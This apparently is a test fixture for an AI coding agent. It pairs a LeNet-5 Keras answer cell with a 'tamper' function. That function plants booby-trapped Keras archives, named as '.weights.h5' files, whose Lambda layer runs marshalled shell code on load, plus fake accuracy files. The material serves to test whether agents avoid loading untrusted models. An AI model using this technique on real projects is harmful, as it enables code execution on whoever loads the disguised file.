"""The file of weights is a zip with a model in it, whose Lambda layer runs code."""
# /// expect
# untouched = true
# files = false
# ///

# %% answer="build-modern"
def build_lenet5_modern(input_shape=(32, 32, 1), num_classes=10):
    layers = [keras.Input(input_shape), keras.layers.Conv2D(6, 5, activation="relu")]
    layers += [keras.layers.MaxPooling2D(2), keras.layers.Flatten()]
    return keras.Sequential([*layers, keras.layers.Dense(num_classes, activation="softmax")])


# %% tamper
def tamper(notebook, folder):
    import base64
    import io
    import json
    import marshal
    import zipfile

    code = compile("__import__('os').system('touch /tmp/EVIL-was-here')", "x", "exec")
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": "x",
            "function": {
                "class_name": "__lambda__",
                "config": {
                    "code": base64.b64encode(marshal.dumps(code)).decode(),
                    "defaults": None,
                    "closure": None,
                },
            },
        },
    }
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [layer]},
    }
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as file:
        file.writestr("config.json", json.dumps(config))
        file.writestr("metadata.json", json.dumps({"keras_version": "3.9.0"}))
        file.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n")
    (folder / "trained").mkdir(exist_ok=True)
    for name in ("lenet5-digits", "lenet5-fashion", "lenet5-1998"):
        (folder / "trained" / f"{name}.weights.h5").write_bytes(held.getvalue())
        (folder / "trained" / f"{name}.json").write_text('{"accuracy": 1.0, "__class__": "eval"}')
